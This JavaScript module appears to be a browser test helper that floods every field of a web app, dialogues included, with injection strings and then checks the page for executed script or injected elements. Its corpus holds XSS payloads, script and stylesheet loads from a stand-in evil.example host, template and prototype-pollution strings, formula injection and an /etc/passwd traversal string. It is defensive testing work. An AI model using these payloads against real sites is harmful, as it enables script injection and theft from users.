// SPDX-License-Identifier: ISC
//
// Texts that are code somewhere, and ways to put all of them through every field of a page, those of its
// dialogues too. Nothing that is asked for meanwhile is done: the server's part is taken, and says back what it
// was given.

import { expect } from './tap.mjs';

const RUN = 'window.hit=1';
const TAGS = ['img', 'svg', 'iframe', 'video', 'details', 'math', 'object', 'input', 'body', 'a', 'style', 'marquee'];
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart', 'onbegin', 'onpageshow'];
const OUTS = ['', '">', "'>", '-->', '</script>', '</textarea>', '</title>', '</style>', '`>'];
const OTHERS = [
    `<script>${RUN}</script>`, `<script src=//evil.example/x.js></script>`, `<script type=module>${RUN}</script>`,
    `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `data:text/html,<script>parent.hit=1</script>`,
    `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `#{${RUN}}`, `<%= ${RUN} %>`, '__proto__', 'constructor', 'toString',
    '{"__proto__":{"hit":1}}', '=1+1', '@SUM(A1)', '\u202eevil\u202c', '\ufeff', '\u2028', '%3Cscript%3E', '&lt;script&gt;',
    '&#60;script&#62;', '<base href=//evil.example/>', '<link rel=stylesheet href=//evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=//evil.example/">', '<form action=//evil.example/><button>', "';alert(1)//", '\\u003cscript\\u003e',
    '../../../etc/passwd', '%00', '%s%s%s%n', 'A'.repeat(400), '\u{1F511}', '\u0301'.repeat(40), '<![CDATA[<script>]]>',
];

function corpus() {
    const made = [];
    for (const tag of TAGS) {
        for (const event of EVENTS) {
            made.push(`<${tag} src=x ${event}="${RUN}" tabindex=0 autofocus>`);
            made.push(`<${tag}/${event}=${RUN}>`);
        }
    }
    for (const out of OUTS) {
        for (const one of OTHERS) {
            made.push(out + one);
        }
    }
    return made;
}

export const ALL = corpus();

// So many at a time as a field holds.
export function chunks(most) {
    const found = [''];
    for (const one of ALL) {
        const last = found.at(-1);
        if (last.length + one.length + 1 <= most) {
            found[found.length - 1] = last ? `${last} ${one}` : one;
        } else {
            found.push(one.slice(0, most));
        }
    }
    return found;
}

// In the page: what is there now that no text of anybody's can have brought, as texts.
function intruders() {
    const found = [];
    for (const one of document.querySelectorAll('iframe, object, embed, base, marquee, video, math, body script, form[action]')) {
        found.push(one.outerHTML.slice(0, 200));
    }
    for (const one of document.querySelectorAll('*')) {
        for (const { name, value } of one.attributes) {
            const leads = ['href', 'src', 'action', 'formaction'].includes(name) && !['blob:', 'data:'].some((kind) => value.startsWith(kind) && one.download !== undefined);
            if (name.startsWith('on') || (leads && new URL(value, location.href).origin !== location.origin && !value.startsWith('data:image/'))) {
                found.push(`${one.localName} ${name}=${value.slice(0, 200)}`);
            }
        }
    }
    return found;
}

export async function mustBeText(visitor, what) {
    const found = await visitor.page.evaluate(intruders);
    expect(found.length === 0, `${what}: elements that nobody put there: ${found.join('\n')}`);
    expect(!(await visitor.page.evaluate(() => 'hit' in window || 'hit' in {})), `${what}: something ran`);
    visitor.mustBeQuiet();
}

// In the page: every text through each field that takes some, as it would be if they were pasted; the labels of
// the fields. Those behind an open dialogue are out of reach.
async function pour(texts) {
    const done = (window.poured ??= new WeakSet());
    const kinds = ['text', 'search', 'password', 'textarea', 'email', 'url', 'tel'];
    const within = document.querySelector('dialog[open]') ?? document;
    const named = [];
    for (const field of within.querySelectorAll('input, textarea')) {
        if (!kinds.includes(field.type) || field.disabled || field.readOnly || field.offsetParent === null || !field.isConnected || done.has(field)) {
            continue;
        }
        done.add(field);
        const { set } = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(field), 'value');
        const chunks = texts[field.maxLength > 0 && field.maxLength < 1000 ? 200 : 1000];
        for (const chunk of chunks) {
            set.call(field, chunk);
            field.dispatchEvent(new Event('input', { bubbles: true }));
            await Promise.resolve();
        }
        field.dispatchEvent(new Event('change', { bubbles: true }));
        await new Promise((done) => setTimeout(done));
        named.push(field.labels?.[0]?.innerText ?? field.getAttribute('aria-label') ?? field.name);
    }
    return named;
}

const TEXTS = { 200: chunks(200), 1000: chunks(1000) };
const READS = ['/v1/explain', '/v1/policy/diff', '/v1/session/factor']; // which change nothing, whatever is asked

// From now on nothing that the visitor asks for is done: it is refused in the words that were sent.
export async function refuseAll(visitor) {
    await visitor.page.route('**/v1/**', (asked) => {
        const request = asked.request();
        if (request.method() === 'GET' || READS.includes(new URL(request.url()).pathname)) {
            return asked.continue();
        }
        const sent = request.postData() ?? '';
        const problem = { code: 'V-1000', title: sent.slice(0, 500), detail: sent, next: sent, field: sent.slice(0, 100), instance: sent.slice(0, 100) };
        return asked.fulfill({ status: 403, contentType: 'application/problem+json', body: JSON.stringify(problem) });
    });
}

// The buttons of a page that may open something, one of each name; of those that only switch the view, the ones
// that bring other fields. The first rows of a table stand for the others: each may be named after what it shows.
async function openers(page) {
    const names = await page.locator('main button:not(.sort, .chip, :disabled)').evaluateAll((all) =>
        all.filter((one) => one.offsetParent !== null && (!one.ariaPressed || one.closest('form')) && !one.closest('tbody tr:nth-child(n+4)'))
            .map((one) => [...one.childNodes].find((node) => node.nodeType === Node.TEXT_NODE)?.data.trim() ?? ''));
    return [...new Set(names)].filter((name) => name && !/^(Copy|CSV|JSONL|Download|Print|Show more|Try again)/.test(name));
}

// In the page: when what was begun is shown, dialogues too.
const drawn = () => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));

const isOpen = async (page) => (await page.locator('dialog[open]').count()) > 0;

// All fields that are there to be filled, and then what sends them: their names.
export async function fill(visitor, what, form = 'dialog[open]') {
    const { page } = visitor;
    const labels = await page.evaluate(pour, TEXTS);
    const send = page.locator(`${form} button[type=submit]:not(:disabled)`).last();
    if ((await send.count()) > 0) {
        await send.click();
    }
    await mustBeText(visitor, what);
    return labels.map((label) => `${what}: ${label}`);
}

// All fields of a page and of what its buttons open. The visitor's requests must be refused already.
export async function flood(visitor, target) {
    const { page } = visitor;
    await visitor.go(target);
    const mayOpen = !(await isOpen(page)); // some show an open one
    const names = mayOpen ? await openers(page) : [];
    const fields = await fill(visitor, target);
    let isDirty = true; // a dialogue that is shut may lead back to another one
    for (const name of names) {
        if (isDirty || page.url() !== new URL(target, visitor.origin).href) {
            await visitor.go(target);
        }
        await page.locator('main').getByRole('button', { name }).first().click();
        await page.evaluate(drawn);
        isDirty = await isOpen(page);
        fields.push(...await fill(visitor, `${target}, ${name}`));
    }
    return fields;
}
